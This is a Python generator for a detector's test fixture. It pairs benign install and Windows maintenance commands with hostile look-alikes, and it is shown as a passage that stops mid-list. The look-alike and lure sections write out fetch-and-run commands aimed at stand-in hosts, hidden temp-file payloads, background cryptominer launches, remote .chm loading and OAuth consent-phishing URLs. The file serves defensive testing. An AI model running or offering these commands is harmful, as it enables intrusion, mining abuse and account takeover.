"""Writes tests/data/cases/b13fix.jsonl: ordinary texts that were warned about or blocked (the
thirteenth blind set's benign misses, by technique), each beside the look-alikes that try to
abuse the clearing and must stay flagged or blocked; then lures it let through, by technique,
beside the ordinary texts that must stay quiet.

    python tests/data/cases/make_b13fix.py

Deterministic. Names are made up; hosts are reserved names (*.test, *.example, *.invalid,
documentation addresses). No text is copied from a blind set, a lure collection or another
detector's fixtures. Each line is {id, text, expect, technique, platform, source, target}.

Principles:

- `repository-prefixed-site`: a forge repository's own page fetching from a site whose name is
  the repository's whole name (six letters or more) with a short word run on in front of it
  (github.com/<o>/lanternfs and diglanternfs.example). Look-alikes: the repository's issues, a
  page that only borrows the name, plain HTTP, a longer word in front, a check word in front.
- `repository-initials-site`: ... or a site named by the initials of the repository's four
  words or more (github.com/<o>/yet-another-disk-probe and yadp.example). Look-alikes:
  initials of two or three words, other letters, the issues, a fake check's tail.
- `repository-path`: ... or an address on another host whose path has a section or a file
  named exactly for the repository (someones-site.example/lanternfs/install.sh,
  .../lanternfs.sh), three segments at most. Look-alikes: the name as part of a longer file
  name, deeper paths, a query, an address, a paste site, a shared host, a known publisher's
  name as the repository, a generic word as the repository, its issues.
- `repository-organisation`: ... or from the forge account named exactly for the repository,
  the project's own organisation (github.com/<someone>/quarrymap and raw.githubusercontent.com/
  quarrymap/quarrymap-base/...). Look-alikes: an account that only starts with the name, the
  issues, a known publisher's name.
- `forge-short-link-file`: git.io's links may end in a file's type (git.io/lanternfs.sh), as
  the repository's own README hands them out. Look-alikes: its issues, a blog quoting it, a
  query.
- `run-box-refresh-chain`: Windows' own maintenance commands one after the other after cmd /c
  or /k (`cmd /c ipconfig /flushdns && ipconfig /registerdns`, `cmd /k gpupdate /force &&
  gpresult /r`), from an IT wiki or typed. Look-alikes: any other command in the chain, a pipe
  or a redirection, a switch that reaches another computer or writes a file, too long a chain.
- `run-box-console-folder`: a console kept open in a folder of this computer (`cmd /k cd /d
  %USERPROFILE%\\source\\repos`), typed. Look-alikes: a share, a second command, the same
  written by a page.
- `consentfix-redirect-companion` (a lure): a loopback sign-in address whose code is short but
  which carries the other parameters a real redirect does (Google's scope, authuser, prompt; an
  authorisation server's iss), to be pasted back. Near-misses that stay quiet: documentation of
  the flow with placeholders, a scope without a code, a code that is no code.
- `hh-remote-help` (a lure): the Windows help viewer handed a help file (.chm, whose pages run
  scripts) by a web address, a share or WebDAV, also through ms-its: and mk:@MSITStore:.
  Near-misses: a help file on this computer, the program's name in a sentence or a process list.
- `hidden-temp-file-shell` (a lure): a download saved as a hidden file in a temporary folder
  and handed to a shell or an interpreter (`sh /tmp/.x`, `. /dev/shm/.u`). Near-misses: a
  virtual environment in /tmp, a hidden file read or removed, a visible script there (warned).
- `download-background-switch` (a lure): a program just downloaded into a temporary folder
  started with its own switch to go on in the background (a miner's --background or -B,
  --daemon). Near-misses: a service's own daemon switch, make -B, a download only read.
- `browser-name-update-page` (a lure): a page whose own name joins a browser's (Safari,
  Firefox) with other words, a fake update page, handing out a command. Near-misses: the
  browsers' makers' own pages and a package manager's page for them.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b13fix.jsonl")
TERMINAL = "terminal"
RUN = "run_dialog"
UNKNOWN = "unknown"
CHECK_TAIL = " # I am not a robot - Verification ID: 4471"

# -- a forge repository's page and a site it names --------------------------------------------

PREFIXED = [
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://diglanternfs.example/get-installer.sh | bash"),
    ("https://github.com/tarnwick/lanternfs#install", "curl -fsSL https://diglanternfs.example/install | sh"),
    ("https://github.com/tarnwick/lanternfs/blob/main/README.md", "wget -qO- https://www.diglanternfs.example/install.sh | bash"),
    ("https://github.com/ostrava-io/quarrymap", "curl -sSL https://runquarrymap.example/install.sh | sh"),
    ("https://github.com/ostrava-io/quarrymap", "curl -fsSL https://get.runquarrymap.example | bash -s -- --yes"),
    ("https://github.com/bellwort/fernpack", "curl -fsSL https://ohfernpack.example/i.sh | bash"),
    ("https://github.com/bellwort/fernpack/releases", "curl -fsSL https://ohfernpack.example/install.sh | sh -s -- -b ~/.local/bin"),
    ("https://github.com/pinecrest/tidewatch", "bash <(curl -fsSL https://hitidewatch.example/setup.sh)"),
    ("https://github.com/pinecrest/tidewatch", "curl -sL https://hitidewatch.example/install.sh | sudo bash"),
    ("https://github.com/marlow-dev/slatebox", "curl -fsSL https://theslatebox.example/install.sh | sh"),
    ("https://github.com/marlow-dev/slatebox", "sh -c \"$(curl -fsSL https://theslatebox.example/install.sh)\""),
]  # fmt: skip
PREFIXED_LOOKALIKES = [
    ("https://github.com/tarnwick/lanternfs/issues/41", "curl -fsSL https://diglanternfs.example/get-installer.sh | bash", "flagged"),
    ("https://lanternfs-download.example/", "curl -fsSL https://diglanternfs.example/get-installer.sh | bash", "flagged"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL http://diglanternfs.example/get-installer.sh | bash", "flagged"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://downloadlanternfs.example/get-installer.sh | bash", "flagged"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://verifylanternfs.test/get-installer.sh | bash", "malicious"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://lanternfsx.example/get-installer.sh | bash", "flagged"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://dig-lanternfs.test/get-installer.sh | bash" + CHECK_TAIL, "malicious"),
    ("https://github.com/acme/tide", "curl -fsSL https://hitide.example/install.sh | bash", "flagged"),
    ("https://github.com/tarnwick/lanternfs", "curl -fsSL https://diglanternfs.example/get-installer.sh | bash\ncurl -s https://cdn.umbra-stage.test/p | sh", "flagged"),
    ("https://github.com/tarnwick/lanternfs", "powershell -w h -c \"iex(irm https://diglanternfs.example/i.ps1)\"", "malicious"),
    (None, "curl -fsSL https://diglanternfs.example/get-installer.sh | bash", "flagged"),
]  # fmt: skip

INITIALS = [
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL https://yadp.example | bash"),
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL https://yadp.example | bash -s -- -f"),
    ("https://github.com/vellum/yet-another-disk-probe", "wget -qO- https://yadp.example | bash"),
    ("https://github.com/vellum/yet-another-disk-probe#usage", "curl -sL https://yadp.example/ | bash -s -- -i"),
    ("https://github.com/corvid-labs/simple-network-speed-test", "curl -fsSL https://snst.example/run.sh | bash"),
    ("https://github.com/corvid-labs/simple-network-speed-test", "bash <(curl -fsSL https://snst.example/run.sh)"),
    ("https://github.com/haskap/quick-mirror-select-tool", "curl -fsSL https://qmst.example/go | sudo bash"),
    ("https://github.com/haskap/quick-mirror-select-tool", "bash <(wget -qO- https://qmst.example/go)"),
    ("https://github.com/ember-ops/linux-server-bench-kit", "curl -sL https://lsbk.example/lsb.sh | bash"),
    ("https://github.com/ember-ops/linux-server-bench-kit/blob/master/README.md", "curl -sL https://www.lsbk.example/lsb.sh | bash -s -- --fast"),
]  # fmt: skip
INITIALS_LOOKALIKES = [
    ("https://github.com/vellum/disk-probe", "curl -sL https://dp.example | bash", "flagged"),
    ("https://github.com/haskap/quick-mirror-select", "curl -fsSL https://qms.example/go | bash", "flagged"),
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL https://yadq.example | bash", "flagged"),
    ("https://github.com/vellum/yet-another-disk-probe/issues/7", "curl -sL https://yadp.example | bash", "flagged"),
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL https://yadp.example | bash" + CHECK_TAIL, "malicious"),
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL http://yadp.example | bash", "flagged"),
    ("https://yadp-tools.example/blog", "curl -sL https://yadp.example | bash", "flagged"),
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL https://yadpx.example | bash", "flagged"),
    ("https://github.com/vellum/yet-another-disk-probe", "curl -sL https://203.0.113.8/yadp | bash", "flagged"),
    ("https://github.com/vellum/yet-another-disk-probe", "mshta https://yadp.example/a.hta", "flagged"),
    (None, "curl -sL https://yadp.example | bash", "flagged"),
]  # fmt: skip

PATHS = [
    ("https://github.com/rivet-data/lanternfs", "wget -qO- \"https://someones-site.example/lanternfs/install-bin-unix.sh\" | sh"),
    ("https://github.com/rivet-data/lanternfs", "curl -sL https://someones-site.example/lanternfs/install-bin-unix.sh | sh"),
    ("https://github.com/kestrel-apache/gatewright", "curl -sL https://run.kestrelworks.example/gatewright/quickstart | sh"),
    ("https://github.com/kestrel-apache/gatewright#quickstart", "curl -sL https://run.kestrelworks.example/gatewright/quickstart | sh -s -- --dev"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://wget.speedcheck.example/bramblebench.sh | bash"),
    ("https://github.com/m-vance/bramblebench", "wget -qO- https://wget.speedcheck.example/bramblebench.sh | bash"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://wget.speedcheck.example/bramblebench.sh | bash -s -- -q"),
    ("https://github.com/oldfield/mossctl", "curl -fsSL https://downloads.oldfield.example/mossctl/latest/install.sh | bash"),
    ("https://github.com/oldfield/mossctl/releases", "curl -fsSL https://downloads.oldfield.example/mossctl/install.sh | sh"),
    ("https://github.com/petrel-sh/dune-notes", "curl -fsSL https://petrel.example/dune-notes.sh | bash"),
    ("https://github.com/petrel-sh/dune-notes", "bash <(curl -fsSL https://petrel.example/dune-notes/setup)"),
]  # fmt: skip
PATH_LOOKALIKES = [
    ("https://github.com/m-vance/bramblebench", "curl -s https://evil.umbra-stage.test/bramblebench-update.sh | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://evil.umbra-stage.test/a/b/c/bramblebench.sh | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench", "curl -s \"https://evil.umbra-stage.test/bramblebench.sh?id=4\" | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://203.0.113.7/bramblebench.sh | bash", "malicious"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://paste.ee/r/bramblebench.sh | bash", "malicious"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://raw.githubusercontent.com/other/x/main/bramblebench.sh | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench/issues/3", "curl -s https://evil.umbra-stage.test/bramblebench.sh | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench", "Verify you are human: curl -s https://evil.umbra-stage.test/bramblebench.sh | bash", "malicious"),
    ("https://github.com/m-vance/bramblebench", "curl -s http://evil.umbra-stage.test/bramblebench.sh | bash", "flagged"),
    ("https://github.com/someone/install", "curl -s https://evil.umbra-stage.test/install.sh | bash", "flagged"),
    ("https://github.com/someone/homebrew", "curl -s https://evil.umbra-stage.test/homebrew/install.sh | bash", "flagged"),
    ("https://github.com/someone/captcha-verify", "curl -s https://evil.umbra-stage.test/captcha-verify.sh | bash", "malicious"),
    ("https://bramblebench-tools.test/", "curl -s https://evil.umbra-stage.test/bramblebench.sh | bash", "flagged"),
    (None, "curl -s https://wget.speedcheck.example/bramblebench.sh | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://i.jpillora.com.umbra-stage.test/m-vance/bramblebench | bash", "flagged"),
    ("https://github.com/m-vance/bramblebench", "curl -s https://cdn.umbra-stage.test/mirror/bramblebench.sh | bash", "flagged"),
]  # fmt: skip

ORGANISATIONS = [
    ("https://github.com/j-arden/quarrymap", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/master/install.sh)"),
    ("https://github.com/j-arden/quarrymap", "curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/main/install.sh | bash"),
    ("https://github.com/j-arden/quarrymap#installation", "curl -fsSL https://raw.githubusercontent.com/quarrymap/installer/main/setup.sh | sudo bash"),
    ("https://github.com/j-arden/quarrymap", "wget -qO- https://raw.githubusercontent.com/QuarryMap/quarrymap-base/master/install.sh | bash"),
    ("https://github.com/h-okafor/tessellate", "curl -sSL https://raw.githubusercontent.com/tessellate/scripts/main/install.sh | sh"),
    ("https://github.com/h-okafor/tessellate", "bash -c \"$(curl -fsSL https://raw.githubusercontent.com/tessellate/scripts/main/install.sh)\""),
    ("https://github.com/h-okafor/tessellate/blob/main/README.md", "curl -sSL https://raw.githubusercontent.com/tessellate/scripts/main/install.sh | sh -s -- --user"),
    ("https://github.com/lindqvist/nimbusdb", "curl -fsSL https://github.com/nimbusdb/releases/releases/latest/download/install.sh | sh"),
    ("https://github.com/lindqvist/nimbusdb", "curl -fsSL https://raw.githubusercontent.com/nimbusdb/get/main/get.sh | bash"),
    ("https://gitlab.com/pavlova/ferrule", "curl -fsSL https://gitlab.com/ferrule/installer/-/raw/main/install.sh | sh"),
]  # fmt: skip
ORGANISATION_LOOKALIKES = [
    ("https://github.com/j-arden/quarrymap", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap-dev/quarrymap-base/master/install.sh)", "flagged"),
    ("https://github.com/j-arden/quarrymap", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymapx/quarrymap-base/master/install.sh)", "flagged"),
    ("https://github.com/j-arden/quarrymap/issues/4", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/master/install.sh)", "flagged"),
    ("https://github.com/j-arden/quarrymap/pull/9", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/master/install.sh)", "flagged"),
    ("https://github.com/someone/setup", "bash <(curl -fsSL https://raw.githubusercontent.com/setup/x/master/install.sh)", "flagged"),
    ("https://github.com/someone/tool", "bash <(curl -fsSL https://raw.githubusercontent.com/tool/x/master/install.sh)", "flagged"),
    ("https://github.com/j-arden/quarrymap", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/master/install.sh)" + CHECK_TAIL, "malicious"),
    ("https://github.com/j-arden/quarrymap", "curl -fsSL https://raw.githubusercontent.com/other/quarrymap/master/install.sh | bash", "flagged"),
    ("https://quarrymap-download.test/", "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/master/install.sh)", "flagged"),
    (None, "bash <(curl -fsSL https://raw.githubusercontent.com/quarrymap/quarrymap-base/master/install.sh)", "flagged"),
]  # fmt: skip

SHORT_LINKS = [
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL https://git.io/lanternfs.sh) menu"),
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL git.io/lanternfs.sh)"),
    ("https://github.com/p-larch/lanternfs.sh", "wget -N git.io/lanternfs.sh && chmod +x lanternfs.sh && ./lanternfs.sh"),
    ("https://github.com/p-larch/lanternfs.sh", "wget -N https://git.io/lanternfs.sh && bash lanternfs.sh"),
    ("https://github.com/p-larch/tidewatch.sh", "curl -fsSL git.io/tidewatch.sh | bash"),
    ("https://github.com/p-larch/tidewatch.sh/blob/main/README.md", "curl -fsSL https://git.io/tidewatch.sh | bash -s -- install"),
    ("https://github.com/p-larch/mosslink", "bash <(curl -sSL https://git.io/mosslink.sh)"),
    ("https://github.com/p-larch/mosslink", "curl -sSL https://git.io/mosslink-setup.sh | sudo bash"),
    ("https://github.com/p-larch/mosslink/releases", "wget https://git.io/mosslink.sh -O mosslink.sh && bash mosslink.sh"),
    ("https://github.com/p-larch/mosslink", "bash <(wget -qO- git.io/mosslink.py)"),
]  # fmt: skip
SHORT_LINK_LOOKALIKES = [
    ("https://github.com/p-larch/lanternfs.sh/issues/2", "bash <(curl -fsSL https://git.io/lanternfs.sh) menu", "flagged"),
    ("https://blog.vpn-notes.example/lanternfs", "bash <(curl -fsSL https://git.io/lanternfs.sh) menu", "flagged"),
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL https://git.io/lanternfs.sh?x=1) menu", "flagged"),
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL http://git.io/lanternfs.sh) menu", "flagged"),
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL https://git.io/a/lanternfs.sh) menu", "flagged"),
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL https://git.io/lanternfs.sh) menu" + CHECK_TAIL, "malicious"),
    ("https://gitlab.com/p-larch/lanternfs.sh", "bash <(curl -fsSL https://git.io/lanternfs.sh) menu", "flagged"),
    ("https://github.com/p-larch/lanternfs.sh/wiki", "bash <(curl -fsSL https://git.io/lanternfs.sh) menu", "flagged"),
    ("https://github.com/p-larch/lanternfs.sh", "bash <(curl -fsSL https://git.io.umbra-stage.test/lanternfs.sh) menu", "flagged"),
    (None, "bash <(curl -fsSL https://git.io/lanternfs.sh) menu", "flagged"),
]  # fmt: skip


def forge_pages(book: Book) -> None:
    groups = [
        ("repository-prefixed-site", PREFIXED, PREFIXED_LOOKALIKES),
        ("repository-initials-site", INITIALS, INITIALS_LOOKALIKES),
        ("repository-path", PATHS, PATH_LOOKALIKES),
        ("repository-organisation", ORGANISATIONS, ORGANISATION_LOOKALIKES),
        ("forge-short-link-file", SHORT_LINKS, SHORT_LINK_LOOKALIKES),
    ]
    for technique, cases, lookalikes in groups:
        for page, text in cases:
            book.add(technique, text, "not_flagged", "linux", TERMINAL, page)
        for page, text, expect in lookalikes:
            target = TERMINAL if page else UNKNOWN
            if text.startswith(("powershell", "mshta")):
                target = RUN
            book.add(technique + "-lookalike", text, expect, "linux", target, page)


# -- the Run box: maintenance commands one after the other, a console in a folder -------------

WIKI = "https://wiki.corp.example/it/windows/network"
REFRESH_CHAINS = [
    "cmd /c ipconfig /flushdns && ipconfig /registerdns",
    "cmd /c ipconfig /flushdns & ipconfig /registerdns",
    "cmd /k gpupdate /force && gpresult /r",
    "cmd /k gpupdate /force && gpresult /r /scope computer",
    "cmd /k gpupdate /target:user /force && gpresult /r /scope user",
    "cmd /c w32tm /resync && ipconfig /flushdns",
    "CMD /C IPCONFIG /FLUSHDNS && IPCONFIG /REGISTERDNS",
    "cmd.exe /k ipconfig /flushdns & ipconfig /registerdns & w32tm /resync /nowait",
    "cmd /c gpupdate /force & w32tm /resync /force",
    "cmd /k gpresult /r",
    "gpresult /r /scope computer",
    "ipconfig /registerdns",
]  # fmt: skip
REFRESH_CHAIN_LOOKALIKES = [
    "cmd /c ipconfig /flushdns && mshta https://cdn.umbra-stage.test/a.hta",
    "cmd /c ipconfig /flushdns && ipconfig /all",
    "cmd /c ipconfig /flushdns | ipconfig /registerdns",
    "cmd /c ipconfig /flushdns && ipconfig /registerdns > \\\\198.51.100.4\\x\\o.txt",
    "cmd /c ipconfig /flushdns && ipconfig /release",
    "cmd /c gpresult /s 198.51.100.4 /r",
    "cmd /c gpupdate /force && gpresult /h C:\\Users\\Public\\r.html",
    "ipconfig /flushdns && curl https://cdn.umbra-stage.test/x -o x.bat && x.bat",
    "cmd /c ipconfig /flushdns && ipconfig /registerdns && w32tm /resync && gpupdate /force && ipconfig /flushdns",
    "cmd /c ipconfig /flushdns && ipconfig /registerdns" + CHECK_TAIL,
    "cmd /c gpupdate /force && calc",
    "cmd /c ipconfig /flushdns &&& ipconfig /registerdns",
    "cmd /c ipconfig /flushdns && ipconfig /registerdns; start https://cdn.umbra-stage.test/x",
]  # fmt: skip
FOLDERS = [
    "cmd /k cd /d %USERPROFILE%\\source\\repos",
    "cmd /k cd /d C:\\src\\website",
    "cmd /k cd %APPDATA%\\Microsoft",
    "cmd /k chdir /d D:\\projects",
    "cmd /k pushd %USERPROFILE%\\Documents",
    "CMD /K CD /D \"C:\\Users\\Public\\Shared Files\"",
    "cmd.exe /k cd /d %LOCALAPPDATA%\\Temp",
    "cmd /k cd /d C:\\",
    "cmd /k cd /d %ProgramData%",
    "cmd /k cd /d E:\\backup\\2026",
]  # fmt: skip
FOLDER_LOOKALIKES = [
    ("cmd /k pushd \\\\198.51.100.4\\share", None),
    ("cmd /k cd /d \\\\files.umbra-stage.test\\x", None),
    ("cmd /k cd /d C:\\src && build.bat", None),
    ("cmd /k cd /d %LOGONSERVER%\\x", None),
    ("cmd /k cd /d C:\\src & %TEMP%\\upd.exe", None),
    ("cmd /k pushd \\\\files.umbra-stage.test@SSL\\dav", None),
    ("cmd /k cd /d %USERPROFILE%\\source\\repos", "https://help.umbra-stage.test/fix"),
    ("cmd /k cd /d C:\\src" + CHECK_TAIL, "https://verify.umbra-stage.test/check"),
    ("cmd /k cd /d C:\\src C:\\other", None),
    ("cmd /c start cd /d C:\\src", None),
]  # fmt: skip


def run_box(book: Book) -> None:
    for i, text in enumerate(REFRESH_CHAINS):
        book.add(
            "run-box-refresh-chain", text, "not_flagged", "windows", RUN, WIKI if i % 3 else None
        )
    for text in REFRESH_CHAINS[:3]:
        book.add(
            "run-box-refresh-chain",
            text,
            "not_flagged",
            "windows",
            RUN,
            "https://docs.corp.example/kb/dns",
        )
    for text in REFRESH_CHAIN_LOOKALIKES:
        book.add("run-box-refresh-chain-lookalike", text, "flagged", "windows", RUN, WIKI)
    for text in FOLDERS:
        book.add("run-box-console-folder", text, "not_flagged", "windows", RUN)
    for text, page in FOLDER_LOOKALIKES:
        book.add("run-box-console-folder-lookalike", text, "flagged", "windows", RUN, page)


# -- ConsentFix: a short code beside the parameters a real sign-in redirect carries -----------

CONSENT_PAGE = "https://sign-in-finish.umbra-stage.test/complete"
CONSENT = [
    "Pegue aquí la URL completa de la barra de direcciones: http://[::1]:50713/callback?code=4/0AQl7mZt2Rk&scope=openid",
    "Paste the full address from the address bar here: http://localhost:50713/?code=4/0AQl7mZt2Rk&scope=email%20openid",
    "Copy the URL of the page that cannot be reached and paste it below: http://127.0.0.1:8400/cb?code=9xQ2mLp7Tz&scope=openid",
    "http://[::1]:61022/oauth2callback?code=4/0AQl7mZt2Rk&scope=https://www.googleapis.com/auth/drive",
    "http://localhost:61022/?code=4/0AQl7mZt2Rk&scope=openid&authuser=0&prompt=consent",
    "Collez l'adresse ici : http://localhost:3000/callback?code=Zk81pQw7aB&scope=openid%20profile",
    "Fügen Sie die Adresse hier ein: http://127.0.0.1:49152/auth?code=Zk81pQw7aB&iss=https%3A%2F%2Flogin.umbra-stage.test",
    "Incolla qui l'indirizzo: http://[::1]:49152/callback?code=Zk81pQw7aB&scope=openid",
    "http://localhost:8765/callback?scope=openid+email&code=m4Qz81Lp0v",
    "Cole aqui o endereço: http://localhost:8765/callback?code=m4Qz81Lp0v&prompt=none",
]  # fmt: skip
# documentation of the same flow, placeholders and words where the code goes
CONSENT_DOCS = [
    "The redirect looks like http://localhost:8080/callback?code=AUTH_CODE&scope=openid and your app exchanges the code.",
    "http://localhost:8080/callback?code=<code>&scope=openid",
    "Google redirects to http://127.0.0.1:port/?code=...&scope=... after consent.",
    "Set the redirect URI to http://localhost:8080/callback and request scope=openid email.",
    "Example: http://localhost:3000/callback?code=your_code&scope=openid",
    "curl http://localhost:8080/health?scope=all",
    "The app listens on http://[::1]:8080/ and reads ?scope=openid from the request.",
    "Open http://localhost:8765/callback?scope=openid to test the page.",
    "http://localhost:9000/?code=abc&scope=openid",
    "See RFC 9207: the response carries iss=https://server.example together with code=.",
]  # fmt: skip


def consent(book: Book) -> None:
    for i, text in enumerate(CONSENT):
        book.add(
            "consentfix-redirect-companion",
            text,
            "malicious",
            "any",
            UNKNOWN,
            CONSENT_PAGE if i % 2 else None,
        )
    for text in CONSENT_DOCS:
        book.add("consentfix-redirect-companion", text, "not_flagged", "any", UNKNOWN)


# -- lures: a help file from elsewhere, a hidden file run by a shell, a download sent to the
# background, a browser's name borrowed by an update page -------------------------------------

HH = [
    ("hh.exe https://docs.help-viewer.test/manual.chm", RUN),
    ("hh https://198.51.100.23/guide.chm", RUN),
    ("HH.EXE http://files.help-viewer.test/readme.chm", RUN),
    ('hh "https://docs.help-viewer.test/user guide.chm"', RUN),
    ("hh \\\\198.51.100.23\\pub\\guide.chm", RUN),
    ("hh.exe \\\\files.help-viewer.test@SSL\\h\\readme.chm", RUN),
    ("hh mk:@MSITStore:\\\\198.51.100.23\\pub\\guide.chm::/index.htm", RUN),
    ("hh ms-its:https://docs.help-viewer.test/manual.chm::/start.htm", RUN),
    ("C:\\Windows\\hh.exe https://docs.help-viewer.test/manual.chm", RUN),
    ("cmd /c start hh https://docs.help-viewer.test/manual.chm", RUN),
    ("hh.exe ftp://198.51.100.23/pub/manual.chm", UNKNOWN),
    ("hh.exe https://docs.help-viewer.test/manual.chm", UNKNOWN),
]  # fmt: skip
HH_QUIET = [
    ("hh.exe C:\\Program Files\\Contoso\\Help\\manual.chm", UNKNOWN),
    ("hh %windir%\\help\\windows.chm", UNKNOWN),
    ("hh -decompile C:\\out C:\\docs\\manual.chm", UNKNOWN),
    ("The manual ships as a .chm; open it with hh.exe from the Start menu.", UNKNOWN),
    ("hh C:\\Users\\me\\Downloads\\sdk-reference.chm", UNKNOWN),
    ("Get-Process hh", UNKNOWN),
    ("taskkill /im hh.exe /f", UNKNOWN),
    ("where hh.exe", UNKNOWN),
    ("hh.exe mk:@MSITStore:C:\\docs\\manual.chm::/index.htm", UNKNOWN),
    ("hh ms-its:C:\\docs\\manual.chm::/start.htm", UNKNOWN),
]  # fmt: skip

HIDDEN = [
    "wget -q -O /tmp/.x https://cdn.umbra-stage.test/x && sh /tmp/.x",
    "curl -s https://cdn.umbra-stage.test/s -o /var/tmp/.s && bash /var/tmp/.s",
    "curl -fsSL https://cdn.umbra-stage.test/u > /dev/shm/.u; . /dev/shm/.u",
    "wget -qO /tmp/.p https://203.0.113.40/p && source /tmp/.p",
    "curl -so /tmp/.k.py https://cdn.umbra-stage.test/k && python3 /tmp/.k.py",
    "curl -fsSL https://cdn.umbra-stage.test/m -o /private/tmp/.m && zsh /private/tmp/.m",
    "wget -q https://cdn.umbra-stage.test/c -O /tmp/.cache-x && sudo bash /tmp/.cache-x",
    "curl -s https://cdn.umbra-stage.test/r -o /tmp/.r; sh -x /tmp/.r",
    "cd /tmp && wget -q https://cdn.umbra-stage.test/w -O .w && sh /tmp/.w",
    "curl -sk https://198.51.100.61/l -o /dev/shm/.l && perl /dev/shm/.l",
    "wget -O /tmp/x/.init https://cdn.umbra-stage.test/i && sh /tmp/x/.init",
]  # fmt: skip
HIDDEN_QUIET = [
    ("python3 -m venv /tmp/.venv && . /tmp/.venv/bin/activate", "not_flagged"),
    ("source /tmp/.venv/bin/activate", "not_flagged"),
    ("ls -la /tmp/.X11-unix", "not_flagged"),
    ("cat /tmp/.s", "not_flagged"),
    ("rm -f /tmp/.x /tmp/.s", "not_flagged"),
    ("sh /tmp/build.sh", "not_flagged"),
    ("curl -fsSL https://cdn.umbra-stage.test/i.sh -o /tmp/i.sh && sh /tmp/i.sh", "suspicious"),
    ("bash ~/.dotfiles/install.sh", "not_flagged"),
    ("cp .env.example /tmp/.env && cat /tmp/.env", "not_flagged"),
    ("find /tmp -name '.*' -mtime +7 -delete", "not_flagged"),
]  # fmt: skip

BACKGROUND = [
    "wget -qO- https://cdn.umbra-stage.test/x.tar.gz | tar xz -C /tmp && /tmp/xmrig -o pool.umbra-stage.test:3333 -u 4Abc --background",
    "curl -sL https://cdn.umbra-stage.test/m.tgz | tar xz -C /dev/shm && /dev/shm/m -o 203.0.113.9:4444 -u 4Abc -B",
    "curl -s https://cdn.umbra-stage.test/k -o /tmp/kworker && chmod +x /tmp/kworker && /tmp/kworker --daemon",
    "wget -q https://cdn.umbra-stage.test/svc -O /var/tmp/svc; chmod +x /var/tmp/svc; /var/tmp/svc --daemonize",
    "curl -fsSL https://cdn.umbra-stage.test/x.tar.gz | tar xz -C /tmp; /tmp/xmrig-6/xmrig --url pool.umbra-stage.test:443 --user 4Abc --background",
    "curl -sL https://203.0.113.9/a.tgz | tar xzf - -C /tmp && sudo /tmp/agent --background",
    "wget -qO- https://cdn.umbra-stage.test/x.tgz | tar xz -C /private/tmp && /private/tmp/helper -B",
    "curl -so /dev/shm/d https://cdn.umbra-stage.test/d && chmod 755 /dev/shm/d && /dev/shm/d --daemon --quiet",
    "curl -sL https://cdn.umbra-stage.test/t.tar.gz | tar xz -C /tmp && /tmp/t-rex -a kawpow -o pool.umbra-stage.test:4444 -u RVN5 -B",
    "wget https://cdn.umbra-stage.test/n -O /tmp/n && chmod +x /tmp/n\n/tmp/n --background",
]  # fmt: skip
BACKGROUND_QUIET = [
    "redis-server --daemonize yes",
    "docker run -d --name db postgres:16",
    "curl -fsSL https://cdn.umbra-stage.test/x.json -o /tmp/x.json && jq . /tmp/x.json",
    "./xmrig --help",
    "sudo systemctl start syncthing",
    "mkdir -p /tmp/work && cd /tmp/work && make -B",
    "tar xzf app.tar.gz -C /tmp && ls /tmp/app",
    "curl -o /tmp/readme.txt https://cdn.umbra-stage.test/readme.txt && less /tmp/readme.txt",
    "ssh -fN -L 5432:localhost:5432 db.corp.example",
    "sleep 60 && echo done",
]  # fmt: skip

BROWSER_PAGES = [
    ("https://browser-update.safari-patch.test/", "curl -s https://cdn.umbra-stage.test/u | bash"),
    ("https://safari-update.test/macos", "curl -fsSL https://safari-update.test/install.sh | bash"),
    ("https://www.firefox-update-center.test/", "curl -fsSL https://cdn.umbra-stage.test/ff.sh | sh"),
    ("https://firefox-security-patch.test/linux", "wget -qO- https://cdn.umbra-stage.test/p | bash"),
    ("https://update.safari-browser-fix.test/", "bash -c \"$(curl -fsSL https://cdn.umbra-stage.test/s)\""),
    ("https://safari-patch.test/", "osascript -e 'do shell script \"curl -s https://cdn.umbra-stage.test/a | sh\"'"),
    ("https://firefox-codec-update.test/", "curl -sLo /tmp/u.pkg https://cdn.umbra-stage.test/u.pkg && sudo installer -pkg /tmp/u.pkg -target /"),
    ("https://safari-extension-error.test/fix", "curl -s https://cdn.umbra-stage.test/e | zsh"),
    ("https://firefox-support-desk.test/", "curl -fsSL https://firefox-support-desk.test/fix.sh | bash"),
